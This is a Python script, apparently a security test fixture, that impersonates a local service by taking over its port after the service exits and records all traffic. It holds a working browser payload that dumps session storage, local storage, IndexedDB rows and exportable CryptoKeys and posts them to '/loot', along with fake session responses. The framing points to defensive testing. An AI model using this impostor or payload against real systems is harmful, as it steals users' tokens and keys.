# SPDX-License-Identifier: Apache-2.0
"""Another user's program that takes the port when the service has ended, and writes down all that
is sent to it: run as `impostor.py PORT FILE`, it says `listening` and then accepts for ever.

It does what it can to be sent a token: answers as the service would, and serves a page that
reads whatever the browser holds for this origin. Standard library only.
"""

from __future__ import annotations

import base64
import hashlib
import json
import socket
import sys
import threading
from pathlib import Path

# As a script of the same origin: whatever is kept for it, in every form that can be read.
THEFT = """
(async () => {
  const loot = [location.href, JSON.stringify(sessionStorage), JSON.stringify(localStorage)];
  for (const { name } of await indexedDB.databases()) {
    const database = await new Promise((resolve) => {
      const request = indexedDB.open(name);
      request.onsuccess = () => resolve(request.result);
    });
    for (const store of database.objectStoreNames) {
      const rows = await new Promise((resolve) => {
        const request = database.transaction(store).objectStore(store).getAll();
        request.onsuccess = () => resolve(request.result);
      });
      for (const row of rows) {
        loot.push("row", JSON.stringify(row));
        for (const value of Object.values(row)) {
          if (!(value instanceof CryptoKey)) continue;
          for (const format of ["raw", "jwk"]) {
            try {
              const key = await crypto.subtle.exportKey(format, value);
              loot.push(JSON.stringify(format === "jwk" ? key : [...new Uint8Array(key)]));
            } catch (error) {
              loot.push(`${format}: ${error.name}`);
            }
          }
        }
      }
    }
  }
  await fetch("/loot", { method: "POST", body: loot.join("\\n") });
})();
"""


class Impostor:
    def __init__(self, port: int, record: Path) -> None:
        self._listener = socket.create_server(("127.0.0.1", port))
        self._record = record.open("ab", buffering=0)
        self._lock = threading.Lock()

    def serve(self) -> None:
        sys.stdout.write("listening\n")
        sys.stdout.flush()
        while True:
            connection, _ = self._listener.accept()
            threading.Thread(target=self._answer, args=(connection,), daemon=True).start()

    def _answer(self, connection: socket.socket) -> None:
        with connection:
            received = b""
            while piece := connection.recv(65536):
                with self._lock:
                    self._record.write(piece)
                received += piece
                head, end, body = received.partition(b"\r\n\r\n")
                if not end or len(body) < content_length(head):
                    continue
                received = body[content_length(head) :]
                connection.sendall(answer_to(head))


def content_length(head: bytes) -> int:
    for line in head.lower().split(b"\r\n"):
        if line.startswith(b"content-length:"):
            return int(line.split(b":")[1])
    return 0


def answer_to(head: bytes) -> bytes:
    method, target = head.split(b" ")[:2]
    if b"\r\nupgrade: websocket" in head.lower():
        return switch(head)
    kind, body, status = "application/json", b"{}", "200 OK"
    if target == b"/":
        kind, body = "text/html", b"<script>" + THEFT.encode() + b"</script>"
    elif target == b"/session" and method == b"GET":
        body = json.dumps({"challenge": "1.2.3"}).encode()
    elif target == b"/session":
        answer = {"session": "ps_" + "x" * 43, "lifetime_s": 3600, "mac": "0" * 64}
        body, status = json.dumps(answer).encode(), "201 Created"
    return (
        f"HTTP/1.1 {status}\r\nContent-Type: {kind}\r\nContent-Length: {len(body)}\r\n\r\n".encode()
        + body
    )


def switch(head: bytes) -> bytes:
    """The handshake of RFC 6455, with the first protocol that is offered."""
    fields = dict(
        line.decode().lower().split(": ", 1)
        if b"sec-websocket-key" not in line.lower()
        else ("sec-websocket-key", line.decode().split(": ", 1)[1])
        for line in head.split(b"\r\n")[1:]
    )
    magic = fields["sec-websocket-key"] + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"
    accept = base64.b64encode(hashlib.sha1(magic.encode()).digest()).decode()
    answer = (
        "HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        f"Sec-WebSocket-Accept: {accept}\r\n"
    )
    if protocol := fields.get("sec-websocket-protocol", "").split(",")[0]:
        answer += f"Sec-WebSocket-Protocol: {protocol}\r\n"
    return answer.encode() + b"\r\n"


if __name__ == "__main__":
    Impostor(int(sys.argv[1]), Path(sys.argv[2])).serve()
